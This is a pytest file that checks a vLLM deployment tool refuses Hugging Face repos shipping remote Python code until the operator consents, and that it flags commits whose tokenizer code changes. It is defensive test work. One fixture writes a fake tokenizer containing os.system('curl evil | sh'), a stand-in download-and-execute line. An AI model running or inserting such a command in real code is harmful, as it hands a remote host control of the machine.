"""Remote code and model families (issue 39): a repo whose auto_map names Python that vLLM would
execute is refused before any download until the operator consents once for it; the consent is
recorded on the host and later runs go on with it; a new commit whose code changed is named and
refused; a known family is served with its parsers and multimodal flags, the operator's own flags
winning. No vLLM, no Prefect: the hub is the local test hub, the CLI a real subprocess."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from flows.demo import BF16_REPO, demo_config
from tasks.answers.files import compare_files
from tasks.deployment.stages import server_config
from tasks.profiles.families import family_settings
from tasks.profiles.remote_code import (
    RemoteCodeRefused,
    code_in_dir,
    consented,
    remote_code,
    require_consent,
)
from tasks.vllm.settings import VllmSettings
from testkit.faulty_hub import FaultyHub

KIMI_CONFIG = {"architectures": ["KimiK25ForConditionalGeneration"], "model_type": "kimi_k25",
               "auto_map": {"AutoConfig": "configuration_kimi_k25.KimiK25Config",
                            "AutoModel": "modeling_kimi_k25.KimiK25ForConditionalGeneration"},
               "text_config": {"model_type": "deepseek_v3", "vocab_size": 512}}
KIMI_TOKENIZER = {"auto_map": {"AutoTokenizer": ["tokenization_kimi.TikTokenTokenizer", None]},
                  "tokenizer_class": "TikTokenTokenizer"}


def _kimi_repo(folder: Path) -> Path:
    """A repo with Kimi-K2.5's small files as the public model has them: no tokenizer.json, a
    tiktoken vocabulary, and the tokenizer's code named by tokenizer_config.json's auto_map."""
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps(KIMI_CONFIG))
    (folder / "tokenizer_config.json").write_text(json.dumps(KIMI_TOKENIZER))
    (folder / "tokenization_kimi.py").write_text("class TikTokenTokenizer:\n    pass\n")
    (folder / "tiktoken.model").write_text("IQ== 0\n")
    (folder / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ")
    return folder


def test_what_would_run_is_read_from_the_auto_maps_and_only_what_vllm_needs_counts():
    kimi = remote_code({"config.json": KIMI_CONFIG, "tokenizer_config.json": KIMI_TOKENIZER},
                       has_fast_tokenizer=False, native_config=True)
    assert kimi.modules == ["tokenization_kimi.py"]  # vLLM has Kimi-K2.5's config class: that code is not run
    assert kimi.text() == "tokenization_kimi.py (tokenizer_config.json auto_map AutoTokenizer)"
    assert not remote_code({"tokenizer_config.json": KIMI_TOKENIZER}, has_fast_tokenizer=True,
                           native_config=True).needed  # transformers loads a tokenizer.json natively
    unknown = remote_code({"config.json": {"auto_map": {"AutoModel": "evil/repo--payload.Model"}}},
                          has_fast_tokenizer=True, native_config=False)
    assert unknown.modules == ["evil/repo:payload.py"]  # code from another repo is named with its repo


def test_a_deploy_of_a_repo_with_code_and_no_consent_is_refused_before_any_download(tmp_path):
    root = tmp_path / "hub"
    _kimi_repo(root / "moonshotai" / "Kimi-K2.5")
    models = tmp_path / "models"
    with FaultyHub(root) as hub:
        env = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HF_HUB_DOWNLOAD_TIMEOUT": "10"}
        done = subprocess.run([sys.executable, "-m", "flows.cli", "deploy", "moonshotai/Kimi-K2.5", "--models-root",
                               str(models)], env=env, capture_output=True, text=True, timeout=120)
        fetched = [r.path for r in hub.requests if r.path.endswith((".safetensors", ".model", ".py"))]
    assert done.returncode == 2, done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith("error: moonshotai/Kimi-K2.5@") and line.endswith(
        "ships code that vLLM would execute with --trust-remote-code: tokenization_kimi.py (tokenizer_config.json "
        "auto_map AutoTokenizer); read it, then deploy once with --trust-remote-code to consent for this repo on "
        "this host"), line
    assert fetched == [] and not models.exists()  # nothing downloaded, nothing created


def test_consent_is_given_once_per_repo_recorded_on_the_host_and_launches_with_remote_code(tmp_path, monkeypatch):
    repo = _kimi_repo(tmp_path / "snapshot")
    run_dir = tmp_path / "models" / ".rollout"
    code = code_in_dir(repo)
    with pytest.raises(RemoteCodeRefused, match="tokenization_kimi.py"):
        require_consent(code, repo_id="moonshotai/Kimi-K2.5", commit="a" * 40, run_dir=run_dir, given=False)
    assert not run_dir.exists()
    line = require_consent(code, repo_id="moonshotai/Kimi-K2.5", commit="a" * 40, run_dir=run_dir, given=True)
    assert line.startswith("remote code: vLLM will execute tokenization_kimi.py") and "recorded in" in line
    # The nightly's run, no flag: consented on the record; another repo is not.
    later = require_consent(code, repo_id="moonshotai/Kimi-K2.5", commit="b" * 40, run_dir=run_dir, given=False)
    assert "consented for moonshotai/Kimi-K2.5 on" in later
    assert consented(run_dir, "moonshotai/Kimi-K2.5").modules == ["tokenization_kimi.py"]
    with pytest.raises(RemoteCodeRefused):
        require_consent(code, repo_id="someone/kimi-finetune", commit="c" * 40, run_dir=run_dir, given=False)
    # The launch: the recorded consent puts --trust-remote-code on vLLM's command line, and the family
    # its parsers and the vision encoder's data-parallel mode.
    config = demo_config("http://127.0.0.1:9", tmp_path / "models", repo_id="moonshotai/Kimi-K2.5")
    launch = server_config(config, repo, "cuda")
    assert launch.trust_remote_code and launch.tool_call_parser == "kimi_k2" and launch.reasoning_parser == "kimi_k2"
    assert launch.enable_auto_tool_choice and launch.extra_args[-2:] == ["--mm-encoder-tp-mode", "data"]
    other = demo_config("http://127.0.0.1:9", tmp_path / "models", repo_id="someone/kimi-finetune")
    assert not server_config(other, repo, "cuda").trust_remote_code


def test_a_family_fills_only_what_the_operator_left_unset(tmp_path):
    repo = _kimi_repo(tmp_path / "snapshot")
    mine = VllmSettings(reasoning_parser="deepseek_r1", extra_args=["--mm-encoder-tp-mode", "weights"])
    settings, profile, added = family_settings(mine, repo)
    assert profile.name == "Kimi-K2.5" and settings.reasoning_parser == "deepseek_r1"
    assert settings.extra_args == ["--mm-encoder-tp-mode", "weights"]
    assert added == ["--tool-call-parser kimi_k2", "--enable-auto-tool-choice"]
    (repo / "config.json").write_text(json.dumps({"architectures": ["DeepseekV3ForCausalLM"],
                                                  "model_type": "deepseek_v3"}))
    assert family_settings(VllmSettings(), repo)[2] == []  # the demo's family: nothing added


def test_a_new_commit_that_changes_only_the_tokenizers_code_is_named_and_refused(tmp_path, hub_root):
    old = tmp_path / "old"
    shutil.copytree(hub_root / BF16_REPO, old)
    (old / "tokenization_kimi.py").write_text("class TikTokenTokenizer:\n    pass\n")
    new = tmp_path / "new"
    shutil.copytree(old, new)
    (new / "tokenization_kimi.py").write_text("import os\nos.system('curl evil | sh')\n")
    found = compare_files(new, old, last_good="org/kimi@old")
    assert found.same_weights and [c.file for c in found.changes] == ["remote code"]
    assert found.problems == ["remote code: tokenization_kimi.py changed (Python that --trust-remote-code "
                              "executes on this host; an update you read and mean: allow_changed_files)"]
    assert not compare_files(new, old, last_good="org/kimi@old", allow_changes=True).problems
    assert not compare_files(new, old, last_good="org/kimi@old", code_runs=False).problems  # named, never run
